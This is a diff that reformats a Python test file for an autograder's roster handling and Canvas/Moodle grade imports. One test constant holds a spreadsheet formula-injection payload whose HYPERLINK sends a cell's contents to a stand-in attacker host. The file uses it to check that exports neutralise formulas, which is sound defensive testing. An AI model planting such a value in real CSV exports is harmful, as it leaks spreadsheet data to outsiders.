@@ -1,4 +1,5 @@
 """Rosters and the Canvas / Moodle grade imports, read back by parsers of the documented formats."""
+
 from __future__ import annotations
 
 import csv
@@ -20,8 +21,13 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
 LEVEL_COLUMNS = ["Level 1: numpy by hand", "Level 2: torch tensors by hand"]
 
 #: directory -> per-level scores (None: a grader error for that student)
-CLASS = {"alice": {1: 12.5, 2: 10.0}, "bob": {1: 3.25, 2: 0.0}, "carol-not-enrolled": {1: 12.5, 2: 12.5},
-         "dave": None, "-frank": {1: 1.0, 2: 2.0}}
+CLASS = {
+    "alice": {1: 12.5, 2: 10.0},
+    "bob": {1: 3.25, 2: 0.0},
+    "carol-not-enrolled": {1: 12.5, 2: 12.5},
+    "dave": None,
+    "-frank": {1: 1.0, 2: 2.0},
+}
 
 
 def _graded_class(tmp_path: Path) -> Path:
@@ -41,8 +47,14 @@ def _graded_class(tmp_path: Path) -> Path:
 
 def _run_lms(out: Path, roster: Path, *extra: str) -> subprocess.CompletedProcess:
     env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}
-    return subprocess.run([sys.executable, "-m", "autograder", "lms", str(out), "--roster", str(roster), *extra],
-                          check=False, capture_output=True, text=True, env=env, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-m", "autograder", "lms", str(out), "--roster", str(roster), *extra],
+        check=False,
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+    )
 
 
 def _no_formula_cells(text: str) -> None:
@@ -83,8 +95,10 @@ def test_kit_roster_to_canvas_and_moodle(tmp_path):
     for number, total in expected.items():
         assert sum(grades[number].values()) == pytest.approx(total)
     assert grades["1005"] == {c: None for c in LEVEL_COLUMNS}
-    assert moodle_import(moodle, "Email address")["alice@uni.example"] == {LEVEL_COLUMNS[0]: 12.5,
-                                                                           LEVEL_COLUMNS[1]: 10.0}
+    assert moodle_import(moodle, "Email address")["alice@uni.example"] == {
+        LEVEL_COLUMNS[0]: 12.5,
+        LEVEL_COLUMNS[1]: 10.0,
+    }
 
     unmatched = list(csv.DictReader(io.StringIO((out / "lms_unmatched.csv").read_text())))
     assert [(u["directory"], u["total"]) for u in unmatched] == [("carol-not-enrolled", "25")]
@@ -104,13 +118,15 @@ def test_missing_students_can_get_an_explicit_zero_and_one_total_column(tmp_path
     assert moodle_import((out / "moodle.csv").read_text(), "ID number")["1005"] == {lms.TOTAL_COLUMN: 0.0}
 
 
-CANVAS_EXPORT = ("\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Level 1: numpy by hand (88101),Quiz 1 (88102),"
-                 "Current Score\n") + """    Points Possible,,,,,12.50,10.00,(read only)
+CANVAS_EXPORT = (
+    ("\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Level 1: numpy by hand (88101),Quiz 1 (88102),Current Score\n")
+    + """    Points Possible,,,,,12.50,10.00,(read only)
 "Liddell, Alice",501,S1001,alice,Section A,,9,90
 "Bob, Robert",502,S1002,bob,Section A,5,8,80
 "Student, Test",503,,,Section A,,,
 "Jones, Dave",504,S1004,dave,Section B,,7,70
 """
+)
 
 
 def test_a_canvas_export_is_a_roster_and_its_assignment_is_updated(tmp_path):
@@ -134,12 +150,17 @@ def test_a_canvas_export_is_a_roster_and_its_assignment_is_updated(tmp_path):
     assert unmatched == {"carol-not-enrolled", "'-frank"}  # listed, its name neutralised
 
 
-MOODLE_EXPORT = ("First name,Last name,ID number,Institution,Department,Email address,Assignment: Level 1 (Real),"
-                 "Last downloaded from this course\n") + """Alice,Liddell,1001,Uni,CS,alice@uni.example,-,1700000000
+MOODLE_EXPORT = (
+    (
+        "First name,Last name,ID number,Institution,Department,Email address,Assignment: Level 1 (Real),"
+        "Last downloaded from this course\n"
+    )
+    + """Alice,Liddell,1001,Uni,CS,alice@uni.example,-,1700000000
 Robert,Bob,1002,Uni,CS,bob@uni.example,-,1700000000
 Frances,Frank,,Uni,CS,-frank@uni.example,-,1700000000
 Erin,Erinsdottir,1005,Uni,CS,erin@uni.example,-,1700000000
 """
+)
 
 
 def test_a_moodle_export_is_a_roster(tmp_path):
@@ -174,9 +195,24 @@ def test_an_unknown_roster_is_refused_before_grading(tmp_path):
         read_roster(roster)
     (tmp_path / "class" / "alice").mkdir(parents=True)
     env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}
-    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(tmp_path / "class"), "--out",
-                           str(tmp_path / "out"), "--roster", str(roster)], check=False, capture_output=True,
-                          text=True, env=env, timeout=120)
+    proc = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "autograder",
+            "grade",
+            str(tmp_path / "class"),
+            "--out",
+            str(tmp_path / "out"),
+            "--roster",
+            str(roster),
+        ],
+        check=False,
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+    )
     assert proc.returncode == 2 and "no header the kit knows" in proc.stderr
     assert not (tmp_path / "out").exists()
 
@@ -185,19 +221,44 @@ def test_an_unknown_roster_is_refused_before_grading(tmp_path):
 def test_grade_a_class_with_a_roster_end_to_end(tmp_path):
     """``grade CLASS --out OUT --roster``: the real grader, then the imports read back."""
     cls = tmp_path / "class"
-    for name, source in (("alice", ROOT / "solutions" / "level1_numpy.py"),
-                         ("bob", ROOT / "tests" / "corpus" / "broken" / "l1_loss_mean" / "level1_numpy.py"),
-                         ("zoe-late", ROOT / "solutions" / "level1_numpy.py")):
+    for name, source in (
+        ("alice", ROOT / "solutions" / "level1_numpy.py"),
+        ("bob", ROOT / "tests" / "corpus" / "broken" / "l1_loss_mean" / "level1_numpy.py"),
+        ("zoe-late", ROOT / "solutions" / "level1_numpy.py"),
+    ):
         (cls / name).mkdir(parents=True)
         (cls / name / "level1_numpy.py").write_text(source.read_text())
     roster = tmp_path / "roster.csv"
-    roster.write_text("directory,student_id,name,section\nalice,1001,\"Liddell, Alice\",A\n"
-                      "bob,1002,\"Bob, Robert\",A\nerin,1005,\"Erinsdottir, Erin\",B\n")
+    roster.write_text(
+        'directory,student_id,name,section\nalice,1001,"Liddell, Alice",A\n'
+        'bob,1002,"Bob, Robert",A\nerin,1005,"Erinsdottir, Erin",B\n'
+    )
     out = tmp_path / "out"
     env = {**os.environ, "PYTHONPATH": str(ROOT) + os.pathsep + os.environ.get("PYTHONPATH", "")}
-    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(cls), "--out", str(out), "--level", "1",
-                           "--jobs", "1", "--roster", str(roster), "--missing", "zero"],
-                          check=False, capture_output=True, text=True, env=env, timeout=600)
+    proc = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "autograder",
+            "grade",
+            str(cls),
+            "--out",
+            str(out),
+            "--level",
+            "1",
+            "--jobs",
+            "1",
+            "--roster",
+            str(roster),
+            "--missing",
+            "zero",
+        ],
+        check=False,
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=600,
+    )
     assert proc.returncode == 0, proc.stderr
     totals = {r["student"]: float(r["total"]) for r in csv.DictReader(io.StringIO((out / "grades.csv").read_text()))}
     assert totals["alice"] == 12.5 and totals["bob"] < 12.5
@@ -210,6 +271,7 @@ def test_grade_a_class_with_a_roster_end_to_end(tmp_path):
     # the similarity pass ran too: alice and zoe-late handed in the same file (and bob's is the
     # reference with one mistake, so it is flagged with both)
     summary = json.loads((out / "summary.json").read_text())
-    assert ("alice", "zoe-late", 1, 1.0) in [(f["a"], f["b"], f["level"], f["score"])
-                                             for f in summary["similarity"]["flagged"]]
+    assert ("alice", "zoe-late", 1, 1.0) in [
+        (f["a"], f["b"], f["level"], f["score"]) for f in summary["similarity"]["flagged"]
+    ]
     assert (out / "similarity.html").is_file()
